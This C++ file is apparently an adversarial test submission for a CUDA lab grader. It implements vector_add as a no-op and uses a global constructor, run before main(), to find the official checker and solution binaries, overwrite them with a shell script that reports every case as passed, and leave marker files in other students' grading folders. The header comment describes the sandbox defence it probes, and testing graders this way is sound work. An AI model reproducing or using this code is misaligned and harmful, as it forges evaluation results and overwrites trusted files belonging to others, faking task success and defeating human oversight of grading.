// Attack: replace the grader's trusted binaries. Before main() runs, a global constructor
// looks for the official checker and reference solution (files named <lab>_checker or
// <lab>_solution) in every place a grader might keep them: up to 6 folders above the
// current folder and above this binary's folder, $HOME, $PWD, $OLDPWD, $CUDALAB_ROOT and a
// few likely repository paths; in each, the folder itself, bin/ and build/*/bin/. Each one
// found is replaced by a shell script that judges nothing: it names every case it can find
// (from --case, --bench-case and the files in --dump) as passed in a verdict JSON written
// to --verdict, prints "All cases passed." and exits 0. It also drops a marker file in
// every .grade/ folder it finds (where the old grader kept other students' staged copies).
// vector_add itself computes nothing.
//
// What the grader must do: run the program where none of its own files are visible or
// writable (the sandbox shows /usr read-only and one run folder). Then nothing is found,
// every case fails on the poisoned output, and the official binaries are unchanged (the
// suite checks their contents after the grade). The old grader ran this as its own user
// with the repository reachable, so the checker it ran next was this script.
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <filesystem>
#include <set>
#include <string>
#include <string_view>
#include <vector>

#include "vector_add.hpp"

namespace fs = std::filesystem;

namespace {

constexpr int kLevelsUp = 6;
constexpr int kMaxReplacements = 64;
constexpr std::size_t kMaxEntriesPerFolder = 4096;

// What the forged checker does. POSIX sh only: it must run wherever the real one ran.
constexpr std::string_view kForgedChecker = R"sh(#!/bin/sh
# Forged by the cudalab test submission overwrites_trusted_binary. It judges nothing:
# every case it can name is reported as passed.
dump=
verdict=
names=
while [ $# -gt 0 ]; do
    case "$1" in
        --dump) dump=${2-} ;;
        --verdict) verdict=${2-} ;;
        --case|--bench-case) names="$names ${2-}" ;;
    esac
    shift
done
if [ -n "$dump" ] && [ -d "$dump" ]; then
    for file in "$dump"/*.bin; do
        [ -e "$file" ] || continue
        base=${file##*/}
        names="$names ${base%%.*}"
    done
fi
cases=
for name in $names; do
    cases="$cases${cases:+,}{\"name\":\"$name\",\"status\":\"passed\",\"message\":\"passed\"}"
    echo "PASS $name"
done
if [ -n "$verdict" ]; then
    printf '{"schema":"cudalab.verdict/1","all_passed":true,"cases":[%s]}\n' "$cases" > "$verdict"
fi
echo "All cases passed."
exit 0
)sh";

// The entries of a folder (none when it cannot be read), without ever throwing: this runs
// before main(), where an exception would end the program.
std::vector<fs::path> list_folder(const fs::path& folder) {
    std::vector<fs::path> entries;
    std::error_code ec;
    for (fs::directory_iterator it(folder, ec), end; !ec && it != end && entries.size() < kMaxEntriesPerFolder;
         it.increment(ec))
        entries.push_back(it->path());
    return entries;
}

// A folder and up to kLevelsUp folders above it.
void add_with_ancestors(std::vector<fs::path>& places, fs::path folder) {
    for (int level = 0; level <= kLevelsUp && !folder.empty(); ++level) {
        places.push_back(folder);
        if (folder == folder.root_path()) break;
        folder = folder.parent_path();
    }
}

std::vector<fs::path> places_to_search() {
    std::vector<fs::path> places;
    std::error_code ec;
    if (const fs::path cwd = fs::current_path(ec); !ec) add_with_ancestors(places, cwd);
    if (const fs::path exe = fs::read_symlink("/proc/self/exe", ec); !ec) add_with_ancestors(places, exe.parent_path());
    for (const char* name : {"HOME", "PWD", "OLDPWD", "CUDALAB_ROOT"}) {
        if (const char* value = std::getenv(name); value != nullptr && value[0] == '/') places.emplace_back(value);
    }
    for (const char* guess : {"/work/main", "/root", "/workspace", "/repo", "/src", "/cudalab", "/cudalab/bin"}) {
        places.emplace_back(guess);
    }
    for (const fs::path& home : list_folder("/home")) places.push_back(home);
    return places;
}

// Folders that may hold official binaries, below one place.
std::vector<fs::path> binary_folders(const fs::path& place) {
    std::vector<fs::path> folders{place, place / "bin"};
    for (const fs::path& preset : list_folder(place / "build")) folders.push_back(preset / "bin");
    return folders;
}

bool is_trusted_binary_name(const std::string& name) {
    auto ends_with = [&](std::string_view suffix) { return std::string_view(name).ends_with(suffix); };
    return name.find('.') == std::string::npos && (ends_with("_checker") || ends_with("_solution"));
}

bool write_all(int fd, std::string_view text) {
    while (!text.empty()) {
        const ssize_t written = ::write(fd, text.data(), text.size());
        if (written <= 0) return false;
        text.remove_prefix(static_cast<std::size_t>(written));
    }
    return true;
}

// Replace target with the forged checker: atomically through a file of our own beside it
// when the folder is writable, else by truncating the binary in place.
bool forge(const fs::path& target) {
    const std::string temp = target.string() + ".forged";
    int fd = ::open(temp.c_str(), O_WRONLY | O_CREAT | O_TRUNC | O_NOFOLLOW, 0755);
    if (fd >= 0) {
        const bool ok = write_all(fd, kForgedChecker);
        ::close(fd);
        if (ok && ::rename(temp.c_str(), target.c_str()) == 0) return true;
        ::unlink(temp.c_str());  // our own file
    }
    fd = ::open(target.c_str(), O_WRONLY | O_TRUNC | O_NOFOLLOW);
    if (fd < 0) return false;
    const bool ok = write_all(fd, kForgedChecker) && ::fchmod(fd, 0755) == 0;
    ::close(fd);
    return ok;
}

void leave_marker(const fs::path& grade_folder) {
    const fs::path marker = grade_folder / "cudalab-escape-overwrites_trusted_binary";
    const int fd = ::open(marker.c_str(), O_WRONLY | O_CREAT | O_APPEND | O_NOFOLLOW, 0644);
    if (fd < 0) return;
    (void)write_all(fd, "written by the test submission overwrites_trusted_binary\n");
    ::close(fd);
    std::fprintf(stderr, "overwrites_trusted_binary: left a marker in %s\n", grade_folder.c_str());
}

// Runs before main(). std::fprintf, not iostreams: those may not be set up yet.
[[gnu::constructor]] void replace_trusted_binaries() {
    std::set<std::string> seen_folders, seen_grade_folders;
    int replaced = 0;
    for (const fs::path& place : places_to_search()) {
        std::error_code ec;
        const fs::path grade = place.filename() == ".grade" ? place : place / ".grade";
        if (fs::is_directory(grade, ec) && seen_grade_folders.insert(grade.lexically_normal().string()).second)
            leave_marker(grade);
        for (const fs::path& folder : binary_folders(place)) {
            if (!seen_folders.insert(folder.lexically_normal().string()).second) continue;
            for (const fs::path& file : list_folder(folder)) {
                if (replaced >= kMaxReplacements) break;
                if (!is_trusted_binary_name(file.filename().string())) continue;
                if (!fs::is_regular_file(fs::symlink_status(file, ec))) continue;
                if (forge(file)) {
                    ++replaced;
                    std::fprintf(stderr, "overwrites_trusted_binary: replaced %s\n", file.c_str());
                } else {
                    std::fprintf(stderr, "overwrites_trusted_binary: could not replace %s (%s)\n", file.c_str(),
                                 std::strerror(errno));
                }
            }
        }
    }
    std::fprintf(stderr, "overwrites_trusted_binary: replaced %d trusted binaries\n", replaced);
}

}  // namespace

void vector_add(const float* a, const float* b, float* c, std::size_t n) {
    (void)a; (void)b; (void)c; (void)n;  // the forged checker was meant to pass this
}
